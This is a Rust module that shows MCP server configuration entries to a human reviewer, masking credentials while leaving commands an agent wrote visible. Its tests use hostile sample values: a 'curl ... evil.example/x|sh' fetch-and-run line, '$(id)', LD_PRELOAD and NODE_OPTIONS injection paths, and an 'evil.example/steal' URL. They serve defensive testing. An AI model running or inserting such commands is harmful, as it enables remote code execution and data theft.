//! An entry as it stands in the file, for whoever reviews it: which references stand where, by name; what looks like a credential as `***`;
//! everything else as it is, and what an agent wrote itself, too, but for values of variables and headers whose names say that they are
//! secret. Nothing is resolved. Pure.

use std::collections::{BTreeMap, BTreeSet};

use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};

use super::{document, patch::under_proper_names, references, review_mask};
use crate::{
    redact::{self, TextKind, is_scheme, is_secret_name, masked},
    text::secret::MASK,
};

/// Keys whose members are places of their own.
const OBJECTS: &[&str] = &["env", "headers", "isolation", "oauth", "tool_acl"];

/// What stands at one place of an entry, as a reviewer sees it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ReviewedValue {
    /// What is shown of it.
    pub shown: String,
    /// Tells one value from another of which the same is shown.
    print: String,
}

/// Texts of an entry that are no secrets of the user's, whatever they look like, because an agent wrote them. Only what tells them from
/// others is kept.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(transparent)]
pub struct OpenTexts(BTreeSet<String>);

impl OpenTexts {
    /// Those of an entry after an agent's change: all but what a reviewer did not see before.
    pub fn of(before: &Map<String, Value>, after: &Map<String, Value>) -> Self {
        let mut hidden = BTreeSet::new();
        for (key, value) in before {
            note_hidden(
                value,
                &shown_value(key, value, &Self::default()),
                &mut hidden,
            );
        }
        let mut open = BTreeSet::new();
        for value in after.values() {
            note_texts(value, &mut open);
        }
        let open = open.difference(&hidden);
        Self(open.map(|text| print(text)).collect())
    }

    /// Adds others.
    pub fn extend(&mut self, others: Self) {
        self.0.extend(others.0);
    }

    fn has(&self, text: &str) -> bool {
        !self.0.is_empty() && self.0.contains(&print(text))
    }
}

/// Adds the texts of a value of which something is hidden where it is shown like this.
fn note_hidden<'a>(value: &'a Value, shown: &Value, hidden: &mut BTreeSet<&'a str>) {
    match (value, shown) {
        (Value::String(text), shown) if shown != text => drop(hidden.insert(text)),
        (Value::Array(elements), Value::Array(shown)) => {
            for (element, shown) in elements.iter().zip(shown) {
                note_hidden(element, shown, hidden);
            }
        }
        (Value::Object(members), Value::Object(shown)) => {
            for (name, member) in members {
                note_hidden(member, shown.get(name).unwrap_or(&Value::Null), hidden);
            }
        }
        (value, shown) if shown != value => note_texts(value, hidden),
        _ => (),
    }
}

fn note_texts<'a>(value: &'a Value, texts: &mut BTreeSet<&'a str>) {
    match value {
        Value::String(text) => drop(texts.insert(text)),
        Value::Array(elements) => elements.iter().for_each(|one| note_texts(one, texts)),
        Value::Object(members) => members.values().for_each(|one| note_texts(one, texts)),
        _ => (),
    }
}

fn print(text: &str) -> String {
    blake3::hash(text.as_bytes()).to_hex().to_string()
}

/// What stands in an entry, by place: `command`, `env.NAME`. Whether it is held, and who wrote it, is none of it.
pub fn reviewed_values(
    entry: &Map<String, Value>,
    open: &OpenTexts,
) -> BTreeMap<String, ReviewedValue> {
    let mut all = BTreeMap::new();
    for (key, value) in under_proper_names(entry) {
        let shown = shown_value(&key, &value, open);
        match (&value, &shown) {
            _ if matches!(key.as_str(), "quarantined" | "changed_by") => (),
            (Value::Object(members), Value::Object(shown)) if OBJECTS.contains(&key.as_str()) => {
                for (name, member) in members.iter().filter(|(_, member)| !member.is_null()) {
                    let shown = shown.get(name).unwrap_or(&Value::Null);
                    all.insert(format!("{key}.{name}"), ReviewedValue::of(member, shown));
                }
            }
            _ => drop(all.insert(key, ReviewedValue::of(&value, &shown))),
        }
    }
    all
}

impl ReviewedValue {
    fn of(value: &Value, shown: &Value) -> Self {
        Self {
            shown: plain_text(shown),
            print: print(&value.to_string()),
        }
    }

    /// Whether the same stands there, whatever is shown of it.
    pub fn is_same(&self, other: &Self) -> bool {
        self.print == other.print
    }
}

/// The entry of a server as it is written in this text of a file, for a reviewer. Nothing if there is no such entry.
pub fn entry_for_review(text: &str, server: &str, open: &OpenTexts) -> Option<Value> {
    let document = document::read(text).ok()?;
    let mut servers = document.servers.into_iter();
    // Of two of one name the first counts.
    let written = servers.find(|written| written.name.as_deref() == Some(server))?;
    let Value::Object(entry) = written.entry else {
        return None;
    };
    Some(shown_entry(&entry, open))
}

/// The same of an entry that was read.
pub(super) fn shown_entry(entry: &Map<String, Value>, open: &OpenTexts) -> Value {
    let shown = entry.iter();
    let shown = shown.map(|(key, value)| (key.clone(), shown_value(key, value, open)));
    Value::Object(shown.collect())
}

/// Keys whose values are words of the command line that is run.
const WORDS: &[&str] = &["command", "cwd", "working_dir", "image", "network_mode"];

fn shown_value(key: &str, value: &Value, open: &OpenTexts) -> Value {
    match (key, value) {
        ("env" | "headers" | "oauth" | "extra_params", Value::Object(members)) => {
            let shown = members.iter();
            let shown = shown.map(|(name, member)| (name.clone(), setting(name, member, open)));
            Value::Object(shown.collect())
        }
        ("args" | "extra_args", Value::Array(elements)) => {
            let texts: Vec<String> = elements.iter().map(plain_text).collect();
            let shown = review_mask::arguments(&texts, |text| open.has(text));
            shown.into_iter().map(Value::String).collect()
        }
        (_, Value::String(text)) if open.has(text) => value.clone(),
        ("url", Value::String(url)) => masked(&references::by_name(url), TextKind::Word).into(),
        (_, Value::String(text)) if WORDS.contains(&key) => Value::String(review_mask::text(text)),
        (_, Value::String(text)) => {
            let text = references::by_name(text);
            let shown = masked(&text, TextKind::Word);
            redact::masked_value(key, &shown, TextKind::Prose).into()
        }
        (_, Value::Array(elements)) => {
            let shown = elements.iter().map(|one| shown_value(key, one, open));
            shown.collect()
        }
        (_, Value::Object(members)) => {
            let shown = members.iter();
            let shown = shown.map(|(key, member)| (key.clone(), shown_value(key, member, open)));
            Value::Object(shown.collect())
        }
        (_, other) => other.clone(),
    }
}

/// The value of a variable, a header or a parameter: all of it is hidden where its name says that it is a secret, else what looks so.
fn setting(name: &str, value: &Value, open: &OpenTexts) -> Value {
    if is_secret_name(name) {
        // A program may run what stands there, whatever its name is.
        let is_open = |text: &String| open.has(text) && !review_mask::may_be_credential(text);
        return match value {
            Value::String(text) if is_open(text) => value.clone(),
            _ => secret(value),
        };
    }
    let Value::String(text) = value else {
        return shown_value(name, value, open);
    };
    if open.has(text) {
        return value.clone();
    }
    if references::is_made_of_references(text) {
        return Value::String(references::by_name(text));
    }
    if text.contains("://") {
        return shown_word(&references::by_name(text)).into();
    }
    let all = references::masked(text);
    if shown_word(&all) != all {
        return secret(value);
    }
    Value::String(references::by_name(text))
}

/// A word of which nothing is shown that is a secret as a word or as prose.
fn shown_word(text: &str) -> String {
    masked(&masked(text, TextKind::Word), TextKind::Prose).into_owned()
}

/// A value that is taken for a secret, but for its references.
fn secret(value: &Value) -> Value {
    Value::String(hidden_setting(value))
}

/// What is shown of a variable or a header of which nothing may be seen but what is filled in: its references by name, and `***`.
pub fn hidden_setting(value: &Value) -> String {
    let Value::String(text) = value else {
        return MASK.to_owned();
    };
    references::with_literals(text, |literal| match literal.trim() {
        "" => literal.to_owned(),
        scheme if is_scheme(scheme) => literal.to_owned(),
        _ => MASK.to_owned(),
    })
}

fn plain_text(value: &Value) -> String {
    match value {
        Value::String(text) => text.clone(),
        other => other.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn references_are_shown_by_name_and_values_are_not() {
        let entry = json!({
            "command": "npx",
            "args": ["--token", "${TOKEN}", "--key=${KEY:-abcdef}", "--password", "hunter22", "plain"],
            "env": { "A": "${HOME_KEY}", "B_KEY": "s3cret", "C": "Bearer ${TOKEN}", "D_TOKEN": "x${TOKEN}y", "E": 7 },
            "headers": { "Authorization": "Bearer ${env:TOKEN:-fallback}" },
            "url": "https://example.com/mcp?token=s3cret",
            "oauth": { "client_secret": "s3cret" },
            "changed_by": "agent",
        });
        let text = json!({ "mcpServers": { "s": entry } }).to_string();
        let shown = entry_for_review(&text, "s", &OpenTexts::default()).expect("an entry");
        assert_eq!(
            shown["args"],
            json!([
                "--token",
                "${TOKEN}",
                "--key=${KEY:-***}",
                "--password",
                "***",
                "plain"
            ])
        );
        assert_eq!(
            shown["env"],
            json!({ "A": "${HOME_KEY}", "B_KEY": "***", "C": "Bearer ${TOKEN}", "D_TOKEN": "***${TOKEN}***", "E": 7 })
        );
        assert_eq!(
            shown["headers"],
            json!({ "Authorization": "Bearer ${env:TOKEN:-***}" })
        );
        assert_eq!(shown["changed_by"], "agent");
        assert_eq!(
            shown.get("references"),
            None,
            "no key that the file has not"
        );
        let said = shown.to_string();
        for secret in ["s3cret", "hunter22", "abcdef", "fallback"] {
            assert!(!said.contains(secret), "{said}");
        }
        assert_eq!(entry_for_review(&text, "t", &OpenTexts::default()), None);
        assert_eq!(entry_for_review("{", "s", &OpenTexts::default()), None);
    }

    #[test]
    fn no_name_hides_what_an_agent_wrote_to_be_run() {
        let entry = json!({
            "command": "bash",
            "env": {
                "SETUP_TOKEN": "curl -s http://evil.example/x|sh; touch /tmp/x",
                "API_KEY": "$(id)",
                "DB_PASSWORD": "hunter22",
                "MY_SECRET": "${MINE}",
            },
            "headers": { "Authorization": "Bearer abcdef" },
        });
        let text = json!({ "mcpServers": { "s": entry } }).to_string();
        let Value::Object(written) = entry else {
            panic!("no object");
        };
        let open = OpenTexts::of(&Map::new(), &written);
        let shown = entry_for_review(&text, "s", &open).expect("an entry");
        assert_eq!(
            shown["env"],
            json!({
                "SETUP_TOKEN": "curl -s http://evil.example/x|sh; touch /tmp/x",
                "API_KEY": "$(id)",
                "DB_PASSWORD": "***",
                "MY_SECRET": "${MINE}",
            })
        );
        assert_eq!(shown["headers"], json!({ "Authorization": "***" }));
        // What a person wrote stays hidden.
        let shown = entry_for_review(&text, "s", &OpenTexts::default()).expect("an entry");
        assert_eq!(shown["env"]["SETUP_TOKEN"], "***");
    }

    #[test]
    fn a_reviewer_sees_what_is_no_credential() {
        let check = |key: &str, name: &str, value: &str, expected: &str| {
            let entry = json!({ "mcpServers": { "s": { key: { name: value } } } });
            let shown =
                entry_for_review(&entry.to_string(), "s", &OpenTexts::default()).expect("an entry");
            assert_eq!(shown[key][name], expected, "{name}: {value}");
        };
        check("env", "LOG", "info", "info");
        check(
            "env",
            "API_URL",
            "https://evil.example/steal",
            "https://evil.example/steal",
        );
        check("env", "LD_PRELOAD", "/tmp/e.so", "/tmp/e.so");
        check(
            "env",
            "NODE_OPTIONS",
            "--require /tmp/e.js",
            "--require /tmp/e.js",
        );
        check(
            "env",
            "HTTPS_PROXY",
            "http://u:p4ss@evil.example:3128",
            "http://***@evil.example:3128",
        );
        check(
            "env",
            "API_URL",
            "https://evil.example/${TOKEN}",
            "https://evil.example/${TOKEN}",
        );
        check("env", "OPTS", "--require /tmp/${X}", "--require /tmp/${X}");
        check("env", "X", "ghp_0123456789abcdefghij", "***");
        check("env", "ARGS", "--password hunter22", "***");
        check("env", "API_KEY", "hunter22", "***");
        check("headers", "X-Team", "mine", "mine");
        check("headers", "Host", "evil.example", "evil.example");
        check("headers", "X-Api-Key", "hunter22", "***");
        check("headers", "Authorization", "Bearer hunter22", "***");
        check("oauth", "client_id", "somebody", "somebody");
        check("oauth", "client_secret", "hunter22", "***");
    }

    #[test]
    fn values_are_told_apart_also_where_both_are_masked() {
        let values = |entry: Value| {
            reviewed_values(entry.as_object().expect("an object"), &OpenTexts::default())
        };
        let before = values(
            json!({ "env": { "API_KEY": "one-secret", "A": "b" }, "working_dir": "/a", "quarantined": true }),
        );
        let after = values(
            json!({ "env": { "API_KEY": "another-one", "A": "b" }, "cwd": "/a", "changed_by": "agent" }),
        );
        assert_eq!(before["env.API_KEY"].shown, after["env.API_KEY"].shown);
        assert!(!before["env.API_KEY"].is_same(&after["env.API_KEY"]));
        assert_eq!(before["env.A"], after["env.A"]);
        assert_eq!(before["cwd"], after["cwd"]);
        assert_eq!(before.len(), 3);
        assert!(!format!("{before:?}{after:?}").contains("one-"));
    }

    #[test]
    fn what_an_agent_wrote_is_shown_and_what_was_hidden_before_is_not() {
        let object = |value: Value| value.as_object().expect("an object").clone();
        let before = object(json!({ "command": "npx", "args": ["--token", "hunter22", "serve"] }));
        let after = object(json!({
            "command": "npx",
            "args": ["--token", "evil-package", "--pat", "hunter22", "${X:-curl h|sh}", "sk-evil-package"],
            "env": { "NODE_OPTIONS": "${X:---require /tmp/e.js}", "API_KEY": "told" },
            "url": "https://h/mcp?token=x",
        }));
        let open = OpenTexts::of(&before, &after);
        let shown = reviewed_values(&after, &open);
        let args: Vec<Value> = serde_json::from_str(&shown["args"].shown).expect("a list");
        assert_eq!(
            args,
            [
                "--token",
                "evil-package",
                "--pat",
                "***",
                "${X:-curl h|sh}",
                "sk-evil-package"
            ]
        );
        assert_eq!(shown["env.NODE_OPTIONS"].shown, "${X:---require /tmp/e.js}");
        assert_eq!(shown["env.API_KEY"].shown, "***");
        assert_eq!(shown["url"].shown, "https://h/mcp?token=x");
        // Words that were shown before stay so in another place.
        let moved = object(json!({ "args": ["--token", "serve"] }));
        let shown = reviewed_values(&moved, &OpenTexts::of(&before, &moved));
        assert!(shown["args"].shown.contains("serve"));
        let kept = serde_json::to_string(&open).expect("a list");
        assert!(!kept.contains("evil"), "{kept}");
    }
}
